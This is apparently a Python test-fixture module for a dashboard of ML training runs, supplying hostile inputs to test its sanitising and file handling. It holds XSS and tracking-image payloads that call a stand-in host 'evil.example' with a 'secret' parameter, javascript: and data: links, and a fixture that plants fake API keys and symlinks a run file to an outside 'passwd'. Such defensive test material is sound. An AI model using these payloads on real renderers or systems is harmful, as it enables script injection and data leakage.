"""Hostile inputs shared by the tiers (AppTest pages, the browser, the units): Markdown that would
load or run something, a folder of runs a hostile teammate could leave, a config line too big to
send whole."""
from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

from helpers import DATA, NEW_METRICS, NEW_RUN, copy_run

EVIL = "http://evil.example/p.png?d=secret"
HOSTILE_MARKDOWN = {  # name -> Markdown that would load or run something if rendered as written
    "image": f"![a]({EVIL})",
    "doubled bang": f"!![x]({EVIL})",
    "reference image": f"!![r][r]\n\n[r]: {EVIL}",
    "shortcut image": f"![r]\n\n[r]: {EVIL}",
    "collapsed image": f"![r][]\n\n[r]: {EVIL}",
    "img tag": f"<img src={EVIL}>",
    "img tag inline": f"text <img src=\"{EVIL}\" onerror=alert(1)> more",
    "svg onload": "<svg onload=alert(1)><image href='http://evil.example/s.png'/></svg>",
    "nested image in link": f"[![a]({EVIL})](https://fine.example/v)",
    "html comment": f"<!-- ![a]({EVIL}) --> after",
    "autolink javascript": "<javascript:alert(1)>",
    "autolink data": "<data:text/html,<script>alert(1)</script>>",
    "autolink mailto": "<mailto:a@b.example>",
    "email literal": "write a@b.example",
    "entity bang": f"&#33;[a]({EVIL})",
    "entity bracket": f"!&#91;a&#93;({EVIL})",
    "entity tags": "&lt;img src=x onerror=alert(1)&gt;",
    "backslash bang": f"\\![a]({EVIL})",
    "double backslash": f"\\\\![a]({EVIL})",
    "escaped bracket": f"!\\[a]({EVIL})",
    "javascript link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)",
    "tab in scheme": "[x](<java\tscript:alert(1)>) [y](java%09script:alert(1))",
    "vbscript": "[y](vbscript:msgbox(1))",
    "protocol relative": "[x](//evil.example/a)",
    "image in table": f"| a |\n|---|\n| ![a]({EVIL}) |",
    "image in list and quote": f"- > ![a]({EVIL})\n- ok",
    "image in heading": f"# ![a]({EVIL})",
    "image title": f"![a]({EVIL} \"t\")",
    "script block": "<script>fetch('http://evil.example/x')</script>",
    "streamlit directives": ":red[x] :material/home: $\\href{http://evil.example}{x}$",
    "setext and list text": "a\n===\n1) x\n+ y",
    "line starts after escape": f"x\\\n![a]({EVIL})",
}

XSS_MARKUP = '<img src=x onerror="alert(1)"><script>alert(2)</script>[x](javascript:alert(3))'  # HTML, script, link

BIG_LINE = "python train.py " + " ".join(f"--model.layer{i}=qwen-{i:07d}" for i in range(40_000))  # ~1.2 MB


def hostile_tree(root: Path, outside: Path) -> None:
    """Runs a hostile teammate could leave in a shared folder: secrets in every spelling, links
    out of the root at several levels, a config nested too deep, a FIFO, a huge step."""
    run = copy_run(NEW_RUN, root, name="secrets-and-links")
    orch = run / "configs" / "attempt_2" / "resolved" / "orchestrator.json"
    cfg = json.loads(orch.read_text())
    cfg.update({"wandbApiKey": "SECRET-1", "api-key": "SECRET-2", "db_pass": "SECRET-3",
                "secrets": {"x": "SECRET-4"}, "client": {"Authorization": "Bearer SECRET-5"},
                "max_tokens": 512, "tokenizer": "Qwen/Qwen3-4B"})
    orch.write_text(json.dumps(cfg))
    (run / "configs" / "attempt_2" / "command.txt").write_text(
        "OPENAI_API_KEY=SECRET-6 uv run rl --token SECRET-7 --openai-api-key SECRET-8 -H 'Authorization: Bearer SECRET-9'\n")
    (outside / "passwd").write_text("root:x:0:0:OUTSIDE-CONTENT\n")
    os.symlink(outside / "passwd", run / "configs" / "attempt_2" / "resolved" / "stolen.json")
    copy_run(NEW_RUN, outside, name="outside-run")
    os.symlink(outside / "outside-run", root / "linked-run")
    nested = copy_run(NEW_RUN, root, name="deep-json")
    (nested / "configs/attempt_2/resolved/trainer.json").write_text("[" * 100_000 + "]" * 100_000)
    fifo = copy_run(NEW_RUN, root, name="fifo")
    os.remove(fifo / NEW_METRICS)
    os.mkfifo(fifo / NEW_METRICS)
    big = copy_run(NEW_RUN, root, name="big-int")
    with open(big / NEW_METRICS, "a") as fh:
        fh.write('{"step": %d, "loss": 1.0}\n\x00\xff garbage\n{"step": 12, "x": NaN}\n' % 10**30)
    shutil.copy(DATA / "verl" / "dq_math.log", root / "verl.log")
